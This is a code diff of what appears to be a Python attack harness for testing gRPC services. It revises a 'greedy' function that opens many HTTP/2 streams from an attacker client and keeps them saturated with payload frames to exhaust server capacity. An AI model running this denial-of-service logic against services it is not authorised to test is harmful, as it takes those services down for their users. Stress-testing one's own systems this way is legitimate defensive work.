@@ -31,6 +31,7 @@ import sys
 import tempfile
 import time
 from collections.abc import Callable, Iterator
+from dataclasses import dataclass
 from pathlib import Path
 from typing import Any
 
@@ -204,29 +205,34 @@ def reset(target: Target) -> None:
 
 def greedy(target: Target) -> None:
     """See the module."""
-    clients: list[tuple[BareClient, dict[int, int]]] = []
+    clients: list[tuple[BareClient, dict[int, Greed]]] = []
     while (missing := GREEDY_SESSIONS - sum(len(streams) for _, streams in clients)) > 0:
         client = BareClient(target.grpc, source=ATTACKER)
-        streams = {client.call("Stream", target.opening): 0 for _ in range(min(missing, client.most_calls))}
-        client.flush()
-        clients.append((client, streams))
-    for client, streams in clients:
-        for stream in streams:
-            for _ in range(WINDOW):
-                streams[stream] += 1
-                client.send(stream, target.frame(streams[stream], target.payload))
-        client.flush()
         client.socket.settimeout(0.002)
+        clients.append(
+            (client, {client.call("Stream", target.opening): Greed() for _ in range(client.most_calls)[:missing]})
+        )
     while True:
         for client, streams in clients:
+            for stream, greed in streams.items():
+                while greed.sent < greed.answered + WINDOW and client.room(stream) > len(target.payload) + 100:
+                    greed.sent += 1
+                    client.send(stream, target.frame(greed.sent, target.payload))
+            client.flush()
             with contextlib.suppress(TimeoutError):
                 for event in client.events():
                     if isinstance(event, h2.events.DataReceived):
                         assert event.stream_id is not None
                         client.take(event)
-                        streams[event.stream_id] += 1
-                        client.send(event.stream_id, target.frame(streams[event.stream_id], target.payload))
-            client.flush()
+                        streams[event.stream_id].answered += 1
+
+
+@dataclass(slots=True)
+class Greed:
+    """Frames of one session of `greedy`."""
+
+    sent: int = 0
+    answered: int = 0
 
 
 ATTACKS: dict[str, Callable[[Target], None]] = {
